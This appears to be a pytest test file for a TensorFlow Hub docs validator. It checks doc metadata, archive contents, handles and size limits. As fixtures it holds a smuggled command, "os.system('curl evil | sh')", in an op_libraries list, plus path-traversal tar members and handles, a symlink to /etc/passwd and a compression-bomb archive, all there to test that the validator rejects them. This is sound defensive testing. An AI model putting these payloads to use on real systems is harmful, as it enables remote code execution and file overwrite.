"""Validating docs as tfhub.dev's validator did: every problem with its file and line (no TF)."""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest

from tfhub import errors
from tfhub.cli.main import main
from tfhub.hub import docs_format as fmt
from tfhub.hub import model_files, signatures, validator

DATA = Path(__file__).parent.parent / "data" / "hub_docs"
VALID, BROKEN = DATA / "valid", DATA / "broken"
ACME = "assets/docs/acme/models"

# (file, line, a fragment of the message) for every problem of tests/data/hub_docs/broken.
BROKEN_PROBLEMS = [
    (f"{ACME}/bad-first-line/1.md", 1, "Received: '# Model acme/bad-first-line/1'"),
    (f"{ACME}/keys/1.md", 1, "Module docs require the metadata ['format']"),
    (f"{ACME}/keys/1.md", 4, "'asset-path' must end with .tar.gz"),
    (f"{ACME}/keys/1.md", 5, "'module-type' is tfhub.dev's old name of 'task': give 'task' only"),
    (f"{ACME}/keys/1.md", 6, "'task' must start with one of"),
    (f"{ACME}/keys/1.md", 8, "metadata 'fine-tunable' may be given only once"),
    (f"{ACME}/keys/1.md", 8, "'fine-tunable' must be true or false. Received: 'yes'"),
    (f"{ACME}/keys/1.md", 9, "language 'xx' is not defined in tags/language.yaml"),
    (f"{ACME}/keys/lite/1.md", 4, "'parent-model' must be a handle"),
    (f"{ACME}/keys/lite/1.md", 5, "GitHub release download"),
    (f"{ACME}/keys/lite/1.md", 6, "unsupported metadata 'format' for a Lite doc"),
    (f"{ACME}/local-asset/1.md", 4, "names '1.tar.gz', which does not exist beside the doc"),
    (f"{ACME}/no-description/1.md", 3, "the second line must be a short description"),
    (f"{ACME}/stray/1.md", 5, "unexpected line between the description and the first heading"),
    (f"{ACME}/wrong-place/1.md", 1, "must be at assets/docs/acme/models/keys/1.md"),
    (f"{ACME}/wrong-place/1.md", 1, f"also declared by {ACME}/keys/1.md"),
    (f"{ACME}/wrong-place/1.md", 7, "'format' must be one of ['hub', 'saved_model', 'saved_"),
    ("assets/docs/ghost/models/orphan/1.md", 1, "add it at assets/docs/ghost/ghost.md"),
]


def test_the_example_docs_of_every_kind_are_valid():
    assert validator.validate_tree(VALID) == []


def test_broken_docs_report_every_problem_with_file_and_line():
    problems = validator.validate_tree(BROKEN)
    assert [(p.path, p.line) for p in problems] == [(f, line) for f, line, _ in BROKEN_PROBLEMS]
    for problem, (_, _, fragment) in zip(problems, BROKEN_PROBLEMS, strict=True):
        assert fragment in problem.message
        assert str(problem) == f"{problem.path}:{problem.line}: {problem.message}"


def test_validate_command_prints_file_line_message_and_fails(capsys):
    assert main(["validate", str(BROKEN)]) == 1
    out, err = capsys.readouterr()
    lines = out.splitlines()
    assert len(lines) == len(BROKEN_PROBLEMS)
    assert lines[1].startswith(f"{BROKEN}/{ACME}/keys/1.md:1: Module docs require")
    assert err.strip() == f"tfhub: {len(BROKEN_PROBLEMS)} problem(s)"
    assert main(["validate", str(VALID)]) == 0
    assert capsys.readouterr() == (f"OK: {VALID}: 8 doc(s) checked\n", "")


def test_validate_command_on_a_folder_without_docs_is_one_line(capsys, tmp_path):
    assert main(["validate", str(tmp_path)]) == 7
    _, err = capsys.readouterr()
    assert err.startswith("tfhub: not found: ") and "assets/docs does not exist" in err
    with pytest.raises(errors.ModelNotFoundError):
        validator.validate_tree(tmp_path)


@pytest.fixture
def valid_copy(tmp_path: Path) -> Path:
    shutil.copytree(VALID, tmp_path / "root")
    return tmp_path / "root"


def test_docs_saved_with_a_utf8_bom_are_read(valid_copy, capsys):
    """Windows editors save UTF-8 with a BOM: `\\ufeff# Module ...` named no kind, so every
    such doc was skipped (a problem for validate, missing from the hub)."""
    docs = sorted((valid_copy / "assets/docs").rglob("*.md"))
    for doc in docs:
        doc.write_bytes(b"\xef\xbb\xbf" + doc.read_bytes())
    assert validator.validate_tree(valid_copy) == []
    assert main(["validate", str(valid_copy)]) == 0
    assert capsys.readouterr() == (f"OK: {valid_copy}: {len(docs)} doc(s) checked\n", "")
    parsed = fmt.list_docs(valid_copy)
    assert len(parsed) == len(docs) and all(doc.problems == () for doc in parsed)


def test_tag_definitions_check_values_and_urls(valid_copy):
    doc = valid_copy / "assets/docs/example/models/text-embedding/1.md"
    text = doc.read_text().replace("dataset: wikipedia", "dataset: books")
    doc.write_text(text.replace("colab.research.google.com", "evil.example.com"))
    (valid_copy / "tags/demo.yaml").write_text("format: urls\n")
    found = [(p.path, p.line, p.message) for p in validator.validate_tree(valid_copy)]
    rel = "assets/docs/example/models/text-embedding/1.md"
    assert found == [
        (
            rel,
            8,
            "dataset 'books' is not defined in tags/dataset.yaml; add it there or use one "
            "of its ids",
        ),
        (
            rel,
            13,
            "colab must point to colab.research.google.com. Received: "
            "'https://evil.example.com/github/example/demo.ipynb'",
        ),
        (
            "tags/demo.yaml",
            0,
            "cannot read the tag definitions: 'format' must be 'url'. Received: 'urls'",
        ),
    ]
    shutil.rmtree(valid_copy / "tags")  # Without tag definitions, any value goes.
    assert validator.validate_tree(valid_copy) == []


def test_local_asset_path_must_stay_beside_the_doc(valid_copy, upstream_dir):
    doc = valid_copy / "assets/docs/example/models/text-embedding/1.md"
    original = doc.read_text()
    doc.write_text(
        original.replace("https://storage.example.com/text-embedding/1.tar.gz", "1.tar.gz")
    )
    shutil.copyfile(upstream_dir / "tf2_saved_model.tar.gz", doc.parent / "1.tar.gz")
    assert validator.validate_file(doc, root=valid_copy) == []
    doc.write_text(original.replace("https://storage.example.com/text-embedding", "../x"))
    (problem,) = validator.validate_file(doc, root=valid_copy)
    assert problem.line == 4 and "must name a file beside the doc" in problem.message


def test_a_model_folder_version_validates_with_the_archive_it_is_served_as(
    valid_copy, upstream_dir, capsys
):
    """A model folder `2/` beside the doc is served as `2.tar.gz` (packed): that asset-path
    validates (it was 'names 2.tar.gz, which does not exist beside the doc', and `2` 'must end
    with .tar.gz', so such a hub could not pass `tfhub validate`)."""
    first = valid_copy / "assets/docs/example/models/text-embedding/1.md"
    doc = first.with_name("2.md")
    doc.write_text(
        first.read_text()
        .replace("example/text-embedding/1", "example/text-embedding/2")
        .replace("https://storage.example.com/text-embedding/1.tar.gz", "2.tar.gz")
    )
    (doc.parent / "2").mkdir()
    (problem,) = validator.validate_file(doc, root=valid_copy)  # An empty folder: no model.
    assert "names '2.tar.gz', which does not exist beside the doc" in problem.message
    with tarfile.open(upstream_dir / "tf2_saved_model.tar.gz") as archive:
        archive.extractall(doc.parent / "2", filter="data")
    assert validator.validate_file(doc, root=valid_copy) == []
    assert main(["validate", str(valid_copy)]) == 0, capsys.readouterr().out


def test_signature_summary_beside_the_doc_must_agree_with_format(valid_copy):
    doc = valid_copy / "assets/docs/example/models/text-embedding/1.md"
    summary = signatures.SignatureSummary("TF1 Hub format", "hub", 1, 0, 0, ())
    signatures.write_summary(summary, doc.parent / "1.signatures.json")
    (problem,) = validator.validate_file(doc, root=valid_copy)
    assert (problem.line, problem.message) == (
        11,
        "'format' says 'saved_model_2' but the model is a TF1 Hub format (format 'hub', from "
        "1.signatures.json)",
    )
    (doc.parent / "1.signatures.json").write_text("{")
    (problem,) = validator.validate_file(doc, root=valid_copy)
    assert problem.line == 0 and "Cannot read the signature summary" in problem.message


def test_publishers_named_as_the_servers_routes_are_reported(tmp_path):
    """/api/..., /static/... and /healthz are the server's: such a publisher's pages and
    archives could not be reached."""
    meta = "<!-- task: text-embedding -->\n<!-- fine-tunable: true -->\n<!-- format: hub -->\n"
    asset = "<!-- asset-path: https://example.com/m.tar.gz -->\n"
    for publisher in ("api", "static"):
        docs = tmp_path / "assets/docs" / publisher
        (docs / "models/m").mkdir(parents=True)
        (docs / f"{publisher}.md").write_text(f"# Publisher {publisher}\nReserved.\n")
        (docs / "models/m/1.md").write_text(f"# Module {publisher}/m/1\nM.\n\n{asset}{meta}")
    problems = [str(problem) for problem in validator.validate_tree(tmp_path)]
    reason = (
        "a name tfhub serve's own routes use (reserved: api, healthz, static): its pages and "
        "archives could not be reached; choose another publisher name"
    )
    assert problems == [
        f"assets/docs/api/api.md:1: the handle 'api' has the publisher 'api', {reason}",
        f"assets/docs/api/models/m/1.md:1: the handle 'api/m/1' has the publisher 'api', {reason}",
        f"assets/docs/static/models/m/1.md:1: the handle 'static/m/1' has the publisher "
        f"'static', {reason}",
        f"assets/docs/static/static.md:1: the handle 'static' has the publisher 'static', {reason}",
    ]


HOSTILE_OP_LIBRARIES = ["os; os.system('curl evil | sh')", "tensorflow_text\nimport shutil", 3]


def test_op_libraries_that_are_not_module_names_are_dropped_and_reported(valid_copy):
    """The model page writes `import <name>` for each: a crafted summary put code there."""
    doc = valid_copy / "assets/docs/example/models/text-embedding/1.md"
    summary = signatures.SignatureSummary("TF2 SavedModel", "saved_model_2", 1, 0, 0, ())
    data = summary.to_json()
    data["op_libraries"] = [*HOSTILE_OP_LIBRARIES, "tensorflow_text"]
    (doc.parent / "1.signatures.json").write_text(json.dumps(data))
    read = signatures.read_summary(doc.parent / "1.signatures.json")
    assert read.op_libraries == ("tensorflow_text",)
    assert read.refused_op_libraries == tuple(map(str, HOSTILE_OP_LIBRARIES))
    assert read.to_json()["op_libraries"] == ["tensorflow_text"]
    (problem,) = validator.validate_file(doc, root=valid_copy)
    assert problem.line == 0
    assert problem.message.startswith(
        "1.signatures.json: 'op_libraries' names \"os; os.system('curl evil | sh')\", "
        "'tensorflow_text\\nimport shutil', '3', which is not a module name (a dotted Python "
        "identifier such as tensorflow_text);"
    )
    for name in ("tensorflow_text", "a.b_c", "_x"):
        assert signatures.is_module_name(name)
    for name in ("a..b", "a.", "import", "a.class", "émb", "os;x", "a b", "", None, 3):
        assert not signatures.is_module_name(name)


def test_validate_doc_alone_checks_a_doc_before_it_is_in_place(tmp_path):
    from tfhub.hub import docs_format

    doc = docs_format.parse_text(
        "# Module acme/x/1\nDesc.\n<!-- task: text-embedding -->\n<!-- format: hub -->\n",
        path=tmp_path / "1.md",
        rel_path="acme/models/x/1.md",
    )
    problems = validator.validate_doc(doc)
    assert [str(p) for p in problems] == [
        "acme/models/x/1.md:1: Module docs require the metadata ['asset-path', 'fine-tunable'] "
        "(as '<!-- key: value -->' lines after the description)"
    ]


def _archive_tree(root: Path, upstream_dir: Path) -> None:
    """Module docs whose archives (or folders) are good, unsafe, stray, broken or not archives."""
    from tests._helpers.archives import add_members, make_tar_gz
    from tests._helpers.hub_server import write_model_doc, write_publisher

    write_publisher(root, "acme", "Acme")

    def doc(model: str, asset: str = "1.tar.gz") -> Path:
        return write_model_doc(root, f"acme/{model}/1", asset=asset)

    shutil.copyfile(upstream_dir / "tf2_saved_model.tar.gz", doc("good").with_name("1.tar.gz"))
    folder = doc("folder", "https://example.com/mirrored.tar.gz").with_name("1")
    shutil.copytree(upstream_dir / "tf1_text_vocab", folder)
    escape = tarfile.TarInfo("../../escape.txt")
    add_members(doc("unsafe").with_name("1.tar.gz"), [escape])
    stray = {"saved_model.pb": SAVED_MODEL_PB, ".DS_Store": b"x", "notes.txt": b"x"}
    make_tar_gz(doc("stray").with_name("1.tar.gz"), stray)
    make_tar_gz(doc("garbage").with_name("1.tar.gz"), {"saved_model.pb": b"\x08\xff"})
    make_tar_gz(
        doc("empty").with_name("1.tar.gz"), {"variables/variables.index": b"x"}, folders=True
    )
    doc("not-gzip").with_name("1.tar.gz").write_bytes(b"PK\x03\x04 a zip file")


# A SavedModel proto on the wire: schema version 1, one (empty) MetaGraph.
SAVED_MODEL_PB = b"\x08\x01\x12\x00"


def _model_archive(path: Path, *, folders: bool, link: bool = False) -> Path:
    """A model archive as `tar czf` writes it, or with its files only (`tar czf A *.pb v/*`)."""
    from tests._helpers.archives import make_tar_gz

    files = {
        "saved_model.pb": SAVED_MODEL_PB,
        "variables/variables.index": b"index",
        "variables/variables.data-00000-of-00001": b"data",
        "assets/vocab/words.txt": b"hello",
    }
    make_tar_gz(path, files, folders=folders)
    if link:
        with tarfile.open(path) as tar:
            members = [(m, tar.extractfile(m)) for m in tar]
            entries = [(m, f.read() if f else None) for m, f in members]
        with tarfile.open(path, "w:gz") as tar:
            for member, data in entries:
                tar.addfile(member, io.BytesIO(data) if data is not None else None)
            symlink = tarfile.TarInfo("assets/words.txt")
            symlink.type, symlink.linkname = tarfile.SYMTYPE, "vocab/words.txt"
            tar.addfile(symlink)
    return path


def _extracts_in_tensorflow_hub(archive: Path, target: Path) -> bool:
    """Whether tensorflow_hub's own extraction (every version's) takes the archive."""
    file_utils = pytest.importorskip("tensorflow_hub.file_utils")
    target.mkdir()
    try:
        with open(archive, "rb") as data:
            file_utils.extract_tarfile_to_destination(data, str(target))
    except Exception:  # NotFoundError for a missing folder, ValueError for a link: it could not.
        return False
    return True


def test_archives_tensorflow_hub_cannot_extract_are_reported(tmp_path):
    good = _model_archive(tmp_path / "good.tar.gz", folders=True)
    flat = _model_archive(tmp_path / "flat.tar.gz", folders=False)
    linked = _model_archive(tmp_path / "linked.tar.gz", folders=True, link=True)

    assert model_files.archive_problems(good) == []
    assert _extracts_in_tensorflow_hub(good, tmp_path / "good")
    assert model_files.archive_problems(flat) == [
        "'variables/variables.index' comes before any member for its folder 'variables/': "
        "tensorflow_hub makes no parent folders, so it cannot extract this archive; pack the "
        "model folder with `tfhub pack` (or `tar czf ARCHIVE -C FOLDER .`)",
        "'assets/vocab/words.txt' comes before any member for its folder 'assets/vocab/': "
        "tensorflow_hub makes no parent folders, so it cannot extract this archive; pack the "
        "model folder with `tfhub pack` (or `tar czf ARCHIVE -C FOLDER .`)",
    ]
    assert not _extracts_in_tensorflow_hub(flat, tmp_path / "flat")
    assert model_files.archive_problems(linked) == [
        "'assets/words.txt' is a symlink: tensorflow_hub extracts only files and folders "
        '("Unexpected object type in tar archive"); put the file itself in the archive'
    ]
    assert not _extracts_in_tensorflow_hub(linked, tmp_path / "linked")


def test_an_archive_of_a_folder_s_contents_by_tar_has_no_problem(tmp_path, upstream_dir):
    """`tar czf A -C FOLDER .` names members './x', with './' and './variables' first."""
    archive = tmp_path / "m.tar.gz"
    subprocess.run(["tar", "czf", archive, "-C", upstream_dir / "tf1_text_vocab", "."], check=True)
    assert model_files.archive_problems(archive) == []
    assert _extracts_in_tensorflow_hub(archive, tmp_path / "out")


def test_archives_and_folders_beside_docs_are_opened_and_checked(tmp_path, upstream_dir, capsys):
    _archive_tree(tmp_path, upstream_dir)
    problems = [
        (p.path.split("/")[4], p.line, p.message) for p in validator.validate_tree(tmp_path)
    ]
    assert [(model, line) for model, line, _ in problems] == [
        ("empty", 4),
        ("garbage", 4),
        ("not-gzip", 4),
        ("stray", 4),
        ("stray", 4),
        ("unsafe", 4),
        ("unsafe", 4),
    ]
    messages = [message for _, _, message in problems]
    assert messages[0].startswith("1.tar.gz: no saved_model.pb (or saved_model.pbtxt) at the root")
    assert (
        messages[1] == "1.tar.gz: saved_model.pb does not parse as a SavedModel (truncated varint)"
    )
    assert messages[2].startswith("1.tar.gz: cannot be read as a .tar.gz archive")
    assert "'.DS_Store' is not a valid file path" in messages[3]
    assert "'notes.txt' is not a file a SavedModel uses" in messages[4]
    assert "saved_model.pb does not parse" in messages[5]  # add_members' b"abc"
    assert "'../../escape.txt' points outside the module" in messages[6]
    bad_folder = tmp_path / "assets/docs/acme/models/folder/1/variables/.hidden"
    bad_folder.write_bytes(b"x")
    (problem,) = [p for p in validator.validate_tree(tmp_path) if "/folder/" in p.path]
    assert problem.message.startswith("1/: 'variables/.hidden' is not a valid file path")
    bad_folder.unlink()
    link = bad_folder.with_name("variables.link")
    link.symlink_to("/etc/passwd")
    (problem,) = [p for p in validator.validate_tree(tmp_path) if "/folder/" in p.path]
    assert problem.message == (
        "1/: 'variables/variables.link' is a symlink: the server cannot pack it (copy what it "
        "leads to in its place)"
    )
    link.unlink()
    # A link to a folder, which `tfhub pack` refuses too, passed; a named pipe was "a symlink".
    folder_link = bad_folder.parent.with_name("extra")
    folder_link.symlink_to(bad_folder.parent)
    os.mkfifo(bad_folder.with_name("pipe"))
    found = [p.message for p in validator.validate_tree(tmp_path) if "/folder/" in p.path]
    assert found == [
        "1/: 'extra' is a symlink: the server cannot pack it (copy what it leads to in its place)",
        "1/: 'variables/pipe' is a FIFO: the server cannot pack it (remove it)",
    ]
    folder_link.unlink()
    bad_folder.with_name("pipe").unlink()
    assert main(["validate", str(tmp_path)]) == 1
    out = capsys.readouterr().out.splitlines()
    assert len(out) == 7 and out[0].startswith(f"{tmp_path}/assets/docs/acme/models/empty/1.md:4: ")


def test_module_type_of_forks_from_before_the_rename_is_task(tmp_path):
    """tfhub.dev's docs said `module-type` before its validator renamed it `task`."""
    from tests._helpers.hub_server import write_publisher

    write_publisher(tmp_path, "google", "Google")
    doc = tmp_path / "assets/docs/google/models/imagenet/inception_v1/classification/1.md"
    doc.parent.mkdir(parents=True)
    doc.write_text(
        "# Module google/imagenet/inception_v1/classification/1\nImagenet classification.\n\n"
        "<!-- dataset: imagenet-ilsvrc-2012-cls -->\n<!-- asset-path: legacy -->\n"
        "<!-- module-type: image-classification -->\n"
        "<!-- network-architecture: Inception V1 -->\n<!-- fine-tunable: true -->\n"
        "<!-- format: hub -->\n\n\n## Overview\nInception V1.\n"
    )
    assert validator.validate_tree(tmp_path) == []
    doc.write_text(doc.read_text().replace("image-classification", "classification"))
    (problem,) = validator.validate_tree(tmp_path)
    assert (problem.line, problem.message[:30]) == (6, "'task' must start with one of ")


BOMB_SCRIPT = """
    import resource, sys
    from pathlib import Path
    from tfhub.hub import model_files

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    problems = model_files.archive_problems(Path(sys.argv[1]))
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    print(problems, round(grown_mb))
"""


def test_a_huge_saved_model_pb_in_a_small_archive_is_checked_in_bounded_memory(tmp_path):
    """An archive of a few MB can hold a saved_model.pb of hundreds of MB (zeros compress
    ~1000:1): the check reads past its fields instead of holding it, as validate runs on
    archives anyone could have put into a hub."""
    from tests._helpers.python_process import run_python

    size = 256 << 20
    header = b"\x12" + _varint_bytes(size)  # One MetaGraph (field 2) of `size` zero bytes.
    archive = tmp_path / "1.tar.gz"
    with tarfile.open(archive, "w:gz", compresslevel=1) as tar:
        member = tarfile.TarInfo("saved_model.pb")
        member.size = len(header) + size
        tar.addfile(member, io.BufferedReader(_Concatenated(header, size), 1 << 20))
    assert archive.stat().st_size < 2 << 20
    done = run_python(BOMB_SCRIPT, os.fspath(archive))
    problems, grown_mb = done.stdout.strip().rsplit(" ", 1)
    assert problems == "[]"  # Well-formed at the top level: one MetaGraph.
    assert int(grown_mb) < 64, f"peak RSS grew by {grown_mb} MB checking a 256 MB member"


def _varint_bytes(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


class _Concatenated(io.RawIOBase):
    """`head` then `zeros` zero bytes, read in chunks (never held whole)."""

    def __init__(self, head: bytes, zeros: int) -> None:
        self._head, self._zeros = head, zeros

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        if self._head:
            count = min(len(buffer), len(self._head))
            buffer[:count], self._head = self._head[:count], self._head[count:]
            return count
        count = min(len(buffer), self._zeros)
        buffer[:count] = bytes(count)
        self._zeros -= count
        return count


def test_docs_naming_handles_a_hub_cannot_hold_are_reported(tmp_path, capsys):
    """A fork's doc whose handle has a '..' part (mirror would write outside the hub) or a
    non-ASCII part (a URL tensorflow_hub cannot load) is reported by `tfhub validate`."""
    docs = tmp_path / "assets/docs/acme"
    (docs / "models/nice").mkdir(parents=True)
    (docs / "models/émb").mkdir(parents=True)
    (docs / "acme.md").write_text("# Publisher acme\nAcme.\n")
    meta = "<!-- task: text-embedding -->\n<!-- fine-tunable: true -->\n<!-- format: hub -->\n"
    asset = "<!-- asset-path: https://example.com/m.tar.gz -->\n"
    (docs / "models/nice/1.md").write_text(
        f"# Module acme/../../../../../pwned/1\nHarmless.\n\n{asset}{meta}"
    )
    (docs / "models/émb/1.md").write_text(f"# Module acme/émb/1\nAccents.\n\n{asset}{meta}")
    problems = [str(problem) for problem in validator.validate_tree(tmp_path)]
    assert len(problems) == 2
    assert problems[0].startswith(
        "assets/docs/acme/models/nice/1.md:1: the handle 'acme/../../../../../pwned/1' on the "
        "first line has the part '..'"
    )
    assert problems[1].startswith(
        "assets/docs/acme/models/émb/1.md:1: the handle 'acme/émb/1' has the non-ASCII part 'émb'"
    )
    assert main(["validate", str(tmp_path)]) == 1


def test_a_doc_too_long_for_the_server_to_render_is_reported(tmp_path, capsys):
    """tfhub serve shows a body longer than render.MAX_RENDERED_CHARS as plain text."""
    docs = tmp_path / "assets/docs/acme"
    (docs / "models/long").mkdir(parents=True)
    (docs / "acme.md").write_text("# Publisher acme\nAcme.\n")
    meta = "<!-- task: text-embedding -->\n<!-- fine-tunable: true -->\n<!-- format: hub -->\n"
    asset = "<!-- asset-path: https://example.com/m.tar.gz -->\n"
    body = "## Overview\n" + "A long line of text.\n" * 4000
    (docs / "models/long/1.md").write_text(f"# Module acme/long/1\nLong.\n\n{asset}{meta}\n{body}")
    problems = [str(problem) for problem in validator.validate_tree(tmp_path)]
    assert problems == [
        "assets/docs/acme/models/long/1.md:9: the doc's body is 84,011 characters long, more "
        "than the 65,536 tfhub serve renders (its page would show it as plain text); shorten "
        "it, e.g. move long tables or examples to a linked page"
    ]
    assert main(["validate", str(tmp_path)]) == 1


def test_a_version_too_long_for_int_is_one_problem_line(tmp_path, capsys):
    """A first line or handle with more than 4,300 digits made int() raise a ValueError that
    stopped `tfhub validate` after the first such file, naming no file."""
    docs = tmp_path / "assets/docs/acme"
    (docs / "models/huge").mkdir(parents=True)
    (docs / "acme.md").write_text("# Publisher acme\nAcme.\n")
    (docs / "models/huge/1.md").write_text(f"# Module acme/huge/{'7' * 5000}\nHuge.\n")
    (docs / "models/huge/2.md").write_text(f"# Lite acme/huge/{'7' * 5000}\nHuge.\n")
    problems = [str(problem) for problem in validator.validate_tree(tmp_path)]
    assert [problem.split(": ")[0] for problem in problems] == [
        "assets/docs/acme/models/huge/1.md:1",
        "assets/docs/acme/models/huge/2.md:1",
    ]
    assert all("at most 18 digits" in problem for problem in problems)
    capsys.readouterr()
    assert main(["validate", str(tmp_path)]) == 1
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err and "integer string conversion" not in out + err
    assert "huge/1.md:1: the handle on the first line is refused" in out
